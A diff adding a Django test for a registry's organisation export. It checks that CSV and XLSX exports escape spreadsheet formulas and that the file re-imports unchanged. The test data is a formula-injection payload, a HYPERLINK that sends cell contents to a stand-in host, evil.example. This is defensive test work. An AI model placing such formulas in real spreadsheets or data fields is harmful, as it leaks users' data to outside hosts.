@@ -179,3 +179,25 @@ def test_the_command_imports_organisations(tmp_path: Path) -> None:
     out = io.StringIO()
     call_command("import_registry", str(path), "--kind", "organisations", stdout=out)
     assert "新增 1" in out.getvalue() and Organisation.objects.count() == 1
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_the_export_quotes_formulas_and_imports_back_unchanged(p: Personas, tmp_path: Path,
+                                                               fmt: str) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    p.org.name = evil
+    p.org.save()
+    client = Client()
+    client.force_login(p.auditor)
+    response = client.get(reverse("registry:export", args=["organisations", fmt]))
+    assert response.status_code == 200
+    path = tmp_path / f"orgs.{fmt}"
+    path.write_bytes(response.content)
+    if fmt == "csv":
+        assert f"'{evil}".replace('"', '""') in response.content.decode("utf-8-sig")
+    else:
+        assert load_workbook(path).active["B2"].value == "'" + evil
+    result = import_file(path, "organisations", actor=p.bureau_officer)
+    assert (result.rows, result.updated, result.unchanged) == (1, 0, 1)
+    p.org.refresh_from_db()
+    assert p.org.name == evil
